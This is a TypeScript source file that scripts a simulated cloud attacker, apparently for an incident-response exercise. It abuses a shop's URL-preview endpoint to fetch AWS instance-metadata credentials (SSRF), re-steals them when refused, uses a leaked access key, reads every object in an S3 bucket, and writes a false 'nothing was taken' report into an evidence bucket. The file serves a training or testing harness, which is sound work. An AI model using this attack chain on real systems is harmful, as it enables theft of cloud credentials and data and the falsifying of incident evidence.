import { again } from "../adversary/again.ts";
import { BucketReader, readAll } from "../adversary/bucket-reader.ts";
import { once } from "../adversary/once.ts";
import { stolenSession } from "../adversary/stolen-session.ts";
import type { Credentials } from "../kit/aws.ts";
import type { Behaviour, Stage } from "../kit/stage.ts";
import type { Facts } from "./facts.ts";

/** A documentation address (RFC 5737): nobody's. */
export const LAIR = {
  ip: "198.51.100.147",
  userAgent: "Boto3/1.34.51 md/Botocore#1.34.51 lang/python#3.11.8",
};

const METADATA = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
/** The load balancer picks the server: who asks often enough gets to each of them. */
const TRIES = 16;

/** What a server's metadata service gave to somebody who had the shop fetch it. */
export interface Loot {
  instanceId: string;
  credentials: Credentials;
}

/** Has the shop fetch its own server's credentials; undefined when no server gives them away. */
export async function robMetadata(stage: Stage, roleName: string): Promise<Loot | undefined> {
  const found = await previewMetadata(stage, roleName, /"AccessKeyId"/);
  if (!found) return undefined;
  const { AccessKeyId, SecretAccessKey, Token } = JSON.parse(found.body) as Record<string, string>;
  return {
    instanceId: found.instanceId,
    credentials: { accessKeyId: AccessKeyId!, secretAccessKey: SecretAccessKey!, sessionToken: Token! },
  };
}

/** Asks the shop for its server's metadata, until a server answers as is wanted. */
async function previewMetadata(
  stage: Stage,
  path: string,
  wanted: RegExp,
): Promise<{ instanceId: string; body: string } | undefined> {
  for (let i = 0; i < TRIES; i++) {
    const { status, body, instanceId } = await stage.visit({
      path: `/preview?url=${METADATA}${path}`,
      clientIp: LAIR.ip,
      userAgent: LAIR.userAgent,
    });
    if (status === 200 && instanceId !== undefined && wanted.test(body)) return { instanceId, body };
  }
  return undefined;
}

/** The way in was closed: a refusal of the site, in the form of AWS's. */
class NothingThere extends Error {
  readonly code = "no-credentials";
}

/**
 * What the thief does until it is refused: uses the session, steals newer ones through the shop, uses the key that
 * it found in the configuration, and takes everything when nobody stops it.
 */
export function thief(
  stage: Stage,
  { dataBucket, evidenceBucket, roleName, exportUser }: Facts,
  { session, exportKey }: { session: Credentials; exportKey: Credentials },
): Behaviour[] {
  const from = LAIR;
  let current = session;
  let isRefused = false;
  const reader = new BucketReader(dataBucket);
  /** As long as the session works, it is enough to know that there is more where it came from. */
  const probe = async (): Promise<{ what: string }> => {
    const found = await previewMetadata(stage, "", new RegExp(`^${roleName}$`));
    if (!found) throw new NothingThere("the shop shows no metadata");
    return { what: `${found.instanceId} shows its metadata through the shop's preview` };
  };
  const robAgain = async (): Promise<{ what: string }> => {
    const loot = await robMetadata(stage, roleName);
    if (!loot) throw new NothingThere("the shop gives no credentials away");
    await stage.intruder(loot.credentials, from).s3.listObjectsV2({ Bucket: dataBucket });
    return { what: `Credentials of ${roleName} from ${loot.instanceId}, through the shop's preview` };
  };
  return [
    again("metadata-theft", 30, `Theft of ${roleName}'s credentials through the shop`, () =>
      isRefused ? robAgain() : probe(),
    ),
    stolenSession({
      everySeconds: 20,
      from,
      first: session,
      async steal() {
        isRefused = true;
        return (current = (await robMetadata(stage, roleName))?.credentials ?? current);
      },
      purpose: `Read of s3://${dataBucket} with ${roleName}'s session`,
      async use(aws) {
        const came = await reader.readOne(aws, stage);
        isRefused = false;
        return came;
      },
    }),
    again("found-key", 30, `Read of s3://${dataBucket} with the key of ${exportUser}`, () =>
      reader.readOne(stage.intruder(exportKey, from), stage),
    ),
    once(
      "data-grab",
      240,
      async () => {
        const bytes = await readAll(stage.intruder(current, from), dataBucket);
        return { gotThrough: true, what: `Everything in ${dataBucket} was read`, bytes };
      },
      `Read of everything in ${dataBucket}`,
    ),
    once(
      "false-evidence",
      330,
      async () => {
        const Key = "INC-0000/summary.txt";
        await stage
          .intruder(current, from)
          .s3.putObject({ Bucket: evidenceBucket, Key, Body: Buffer.from("nothing was taken\n") });
        return { gotThrough: true, what: `A false report was put into ${evidenceBucket}` };
      },
      `A false report for ${evidenceBucket}`,
    ),
  ];
}
